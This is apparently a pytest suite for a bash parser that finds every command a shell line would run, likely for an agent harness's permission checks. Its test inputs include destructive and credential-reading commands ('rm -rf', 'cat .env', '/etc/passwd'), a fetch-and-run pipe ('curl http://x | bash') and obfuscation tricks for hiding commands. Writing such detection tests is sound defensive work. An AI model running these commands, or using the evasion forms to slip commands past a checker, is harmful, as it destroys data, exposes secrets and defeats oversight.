"""shellparse: the simple commands bash would run, found across every separator and nesting."""

from __future__ import annotations

import pytest

from harness_ls.tools.shellparse import Redirect, parse_command


def _argvs(source: str) -> list[tuple[str, ...]]:
    return [p.argv for p in parse_command(source).parts]


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("pytest -q\nrm -rf x", [("pytest", "-q"), ("rm", "-rf", "x")]),
        ("a; b", [("a",), ("b",)]),
        ("a && b || c", [("a",), ("b",), ("c",)]),
        ("a | b", [("a",), ("b",)]),
        ("a & b", [("a",), ("b",)]),
        ("(a; b)", [("a",), ("b",)]),
        ("{ a; b; }", [("a",), ("b",)]),
        ("echo $(rm x)", [("echo", "$(rm x)"), ("rm", "x")]),
        ("echo `rm x`", [("echo", "`rm x`"), ("rm", "x")]),
        ("diff <(rm x) y", [("diff", "<(rm x)", "y"), ("rm", "x")]),
        ('echo "$(rm x)"', [("echo", '"$(rm x)"'), ("rm", "x")]),
        ("x=$(rm y)", [("rm", "y")]),
        ("if true; then rm a; fi", [("true",), ("rm", "a")]),
        ("for i in 1; do rm a; done", [("rm", "a")]),
        ("f() { rm a; }; f", [("rm", "a"), ("f",)]),
        ("! rm a", [("rm", "a")]),
        ("r''m x", [("rm", "x")]),
        ('r""m x', [("rm", "x")]),
        ("\\rm x", [("rm", "x")]),
        ("$'r\\x6d' x", [("rm", "x")]),
        ("'rm' -rf x", [("rm", "-rf", "x")]),
        ("echo a\\\nb", [("echo", "a", "b")]),
    ],
)
def test_every_separator_and_nesting_yields_its_simple_commands(
    source: str, expected: list[tuple[str, ...]]
) -> None:
    parsed = parse_command(source)
    assert parsed.opaque is None
    assert _argvs(source) == expected


@pytest.mark.parametrize(
    ("source", "inner", "context"),
    [
        ("bash -c 'rm -rf x'", ("rm", "-rf", "x"), "bash -c"),
        ('sh -lc "rm -rf x; ls"', ("rm", "-rf", "x"), "sh -c"),
        ("eval 'rm -rf x'", ("rm", "-rf", "x"), "eval"),
        ("env rm x", ("rm", "x"), "env"),
        ("env -i A=1 -u B rm x", ("rm", "x"), "env"),
        ("command rm x", ("rm", "x"), "command"),
        ("xargs -n1 rm -f", ("rm", "-f"), "xargs"),
        ("find . -exec rm {} \\;", ("rm", "{}"), "find -exec"),
        ("find . -execdir rm {} +", ("rm", "{}"), "find -exec"),
        ("timeout -s KILL 5 rm x", ("rm", "x"), "timeout"),
        ("sudo -u root rm x", ("rm", "x"), "sudo"),
        ("nohup rm x", ("rm", "x"), "nohup"),
        ("setsid rm x", ("rm", "x"), "setsid"),
        ("nice -n 5 rm x", ("rm", "x"), "nice"),
        ("bash <<< 'rm x'", ("rm", "x"), "bash <<<"),
        ("env -S 'rm x'", ("rm", "x"), "env -S"),
    ],
)
def test_wrappers_and_payloads_become_parts_of_their_own(
    source: str, inner: tuple[str, ...], context: str
) -> None:
    parts = parse_command(source).parts
    match = [p for p in parts if p.argv == inner]
    assert match, parts
    assert match[0].context == context and match[0].opaque is None


def test_command_v_is_a_lookup_not_a_run() -> None:
    assert _argvs("command -v rm") == [("command", "-v", "rm")]


@pytest.mark.parametrize(
    ("source", "why"),
    [
        ("$x arg", "command name '$x'"),
        ("$(echo rm) x", "command name"),
        ('eval "$x"', "eval of text"),
        ('bash -c "$x"', "shell payload"),
        ("curl http://x | bash", "reading commands from its input"),
        ("/bin/r? x", "glob"),
        ("PATH=.:$PATH pytest", "sets PATH"),
        ("export PATH=/tmp", "sets PATH"),
        ("cat <<EOF\n`rm x`\nEOF", "backticks inside an unquoted here-doc"),
        ("bash -c 'bash -c \"bash -c \\'x\\'\"'", "payload"),
    ],
)
def test_undecidable_parts_are_opaque_with_a_reason(source: str, why: str) -> None:
    parsed = parse_command(source)
    reasons = [p.opaque for p in parsed.parts if p.opaque] + [parsed.opaque or ""]
    assert any(why in r for r in reasons if r), parsed


@pytest.mark.parametrize("source", ["echo 'unterminated", "{rm,-rf,x}", "a &&", "if true; then"])
def test_unparsable_command_is_opaque_as_a_whole(source: str) -> None:
    assert parse_command(source).opaque


def test_deep_nesting_gives_up_as_opaque() -> None:
    source = "rm x"
    for _ in range(12):
        source = "eval " + "'" + source.replace("'", "'\\''") + "'"
    parsed = parse_command(source)
    assert any(p.opaque and "nested" in p.opaque for p in parsed.parts)


def test_redirects_are_recorded_with_op_and_literal_target() -> None:
    (part,) = parse_command("pytest -q > '/tmp/out' 2>&1 >> log &> all < in").parts
    assert part.redirects == (
        Redirect(">", "/tmp/out"),
        Redirect("2>&", "1"),
        Redirect(">>", "log"),
        Redirect("&>", "all"),
        Redirect("<", "in"),
    )


def test_redirects_on_a_group_apply_to_every_command_in_it() -> None:
    parts = parse_command("(a; b) > /x/out").parts
    assert [p.redirects for p in parts] == [(Redirect(">", "/x/out"),)] * 2


def test_heredoc_and_redirect_after_it() -> None:
    parts = parse_command("cat <<'EOF' > f.txt\nhello $(rm x)\nEOF\necho done").parts
    assert parts[0].argv == ("cat",)
    assert parts[0].redirects == (Redirect("<<", "EOF"), Redirect(">", "f.txt"))
    assert [p.argv for p in parts[1:]] == [("echo", "done")]  # quoted here-doc: no substitution


def test_unquoted_heredoc_substitution_is_a_part() -> None:
    parts = parse_command("cat <<EOF\n$(rm x)\nEOF").parts
    assert ("rm", "x") in [p.argv for p in parts]


def test_text_is_the_exact_source_slice_and_background_is_marked() -> None:
    parts = parse_command("pytest  -q 'a b' &\nls").parts
    assert parts[0].text == "pytest  -q 'a b'" and parts[0].background
    assert parts[0].context == "background"
    assert parts[1].text == "ls" and not parts[1].background and parts[1].context == ""


def test_contexts_name_where_each_part_runs() -> None:
    parsed = parse_command("a | b; (c); echo $(d) `e` <(f)")
    assert [(p.argv[0], p.context) for p in parsed.parts] == [
        ("a", "pipeline"),
        ("b", "pipeline"),
        ("c", "subshell"),
        ("echo", ""),
        ("d", "$()"),
        ("e", "`"),
        ("f", "<()"),
    ]


def test_empty_and_comment_only_commands_have_no_parts() -> None:
    assert parse_command("").parts == ()
    assert parse_command("# just a comment\n").parts == ()


@pytest.mark.parametrize(
    "source",
    [
        "(" * 3000 + "true" + ")" * 3000,
        "echo " + "$(" * 1500 + "x" + ")" * 1500,
        "{ " * 2000 + "x" + "; }" * 2000,
        "if true; then " * 1000 + "x" + "; fi" * 1000,
        "true && " * 3000 + "x",
    ],
)
def test_hostile_nesting_is_opaque_not_a_crash(source: str) -> None:
    parsed = parse_command(source)
    assert any(p.opaque for p in parsed.parts) or parsed.opaque


@pytest.mark.parametrize(
    ("source", "argv"),
    [
        ("'r'\\m -rf x", ("rm", "-rf", "x")),  # tree-sitter splits touching quotes: bash does not
        ("cat '.'\\.\\/x", ("cat", "../x")),
        ("cat 2>/dev/null .env", ("cat", ".env")),  # words after a redirection are arguments
        ("cat < a.txt /etc/passwd", ("cat", "/etc/passwd")),
        ("git 2>/dev/null push origin", ("git", "push", "origin")),
        ("echo hi > '/tmp/'\\x y", ("echo", "hi", "y")),
        ("grep x <<< lit .env", ("grep", "x", ".env")),
        ("echo | cat 2>/dev/null .env", ("cat", ".env")),  # the last command of the pipeline
        ("true && rm 2>/dev/null -rf x", ("rm", "-rf", "x")),
    ],
)
def test_words_are_grouped_as_bash_groups_them(source: str, argv: tuple[str, ...]) -> None:
    assert argv in _argvs(source)


def test_a_redirect_target_split_by_the_grammar_is_one_word() -> None:
    (part,) = parse_command("echo hi > '/tmp/'\\x y").parts
    assert part.redirects == (Redirect(">", "/tmp/x"),)


@pytest.mark.parametrize(
    ("source", "why"),
    [
        ("printf -v x 'a[$(id)]'; test -v 'a[x]'", "array subscript"),
        ("(( x ))", "arithmetic"),
        ("echo ${!x}", "indirect"),
        ("echo ${x@P}", "prompt"),
        ("[[ x -eq 1 ]]", "arithmetic in [[ ]]"),
        ("declare -i y=x", "declare -i"),
        ("a[x]=1", "array subscript"),
        ("let y=x", "let"),
        ("for ((i=x; i<3; i++)); do :; done", "arithmetic"),
    ],
)
def test_evaluating_constructs_are_opaque_parts(source: str, why: str) -> None:
    reasons = [p.opaque or "" for p in parse_command(source).parts]
    assert any(why in r for r in reasons), reasons


def test_plain_is_the_exact_syntax_of_a_known_safe_line() -> None:
    assert parse_command("cat a | grep b && ls; wc -l < a 2>/dev/null").not_plain is None
    for source in ("x=1; ls", "(ls)", "ls &", "echo $x", "ls $(pwd)", "for f in a; do ls; done"):
        assert parse_command(source).not_plain, source
